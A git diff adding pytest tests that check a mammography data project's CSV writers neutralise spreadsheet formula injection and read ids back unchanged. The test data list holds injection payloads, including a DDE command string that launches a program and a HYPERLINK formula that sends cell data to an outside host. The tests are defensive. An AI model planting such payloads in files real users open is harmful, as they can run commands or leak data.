@@ -6,8 +6,10 @@ of an experiment whose ``out`` is a file or whose data path is missing.
 
 from __future__ import annotations
 
+import io
 from pathlib import Path
 
+import pandas as pd
 import pytest
 import yaml
 
@@ -96,3 +98,34 @@ def test_cli_dry_run_with_problems_exits_2(tmp_path: Path) -> None:
     path.write_text(yaml.safe_dump(cfg))
     res = CliRunner().invoke(app, ["run", str(path), "--dry-run"])
     assert res.exit_code == 2 and "data.manifest" in res.output and "is missing" in res.output
+
+
+FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x?"&A1,"a")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx",
+            "'=already", "plain"]
+
+
+def test_manifest_neutralises_formula_ids_and_reads_them_back(tmp_path: Path) -> None:
+    from mammolab.data.manifest import load_manifest, write_manifest
+
+    df = pd.DataFrame({"path": [f"train/benign/i{k}.png" for k in range(len(FORMULAS))], "split": "train",
+                       "label": "benign", "patient_id": FORMULAS, "bbox_x0": -3.5, "bbox_y0": 2.0,
+                       "bbox_x1": 10.0, "bbox_y1": 12.0, "offset": "-7"})
+    path = write_manifest(df, tmp_path)
+    raw = pd.read_csv(path, dtype=str, keep_default_na=False)
+    # every formula-leading id starts with a quote in the file: a spreadsheet shows it as text
+    assert all(v.startswith("'") for v in raw["patient_id"][:-1]) and raw["patient_id"].iloc[-1] == "plain"
+    assert raw["patient_id"].iloc[0] == "'=cmd|' /C calc'!A0" and raw["patient_id"].iloc[7] == "''=already"
+    assert set(raw["bbox_x0"]) == {"-3.5"} and set(raw["offset"]) == {"-7"}  # numbers stay numbers
+    back = load_manifest(tmp_path)
+    assert list(back["patient_id"]) == FORMULAS  # the round trip gives the ids back: splits and joins unchanged
+    assert back["bbox_x0"].tolist() == [-3.5] * len(FORMULAS)
+
+
+def test_predictions_csv_is_neutralised_through_the_one_helper() -> None:
+    from mammolab.io.csvsafe import read_csv, to_csv_text
+
+    df = pd.DataFrame({"patient_id": FORMULAS, "prob": [-0.0, 0.5, 1.0, 0.2, 0.1, 0.3, 0.4, 0.6, 0.7]})
+    text = to_csv_text(df)
+    assert "\n'=HYPERLINK(" not in text and "\"'=HYPERLINK(" in text and ",-0.0\n" in text
+    back = read_csv(io.StringIO(text), dtype={"patient_id": str}, keep_default_na=False)
+    assert list(back["patient_id"]) == FORMULAS and back["prob"].dtype.kind == "f"
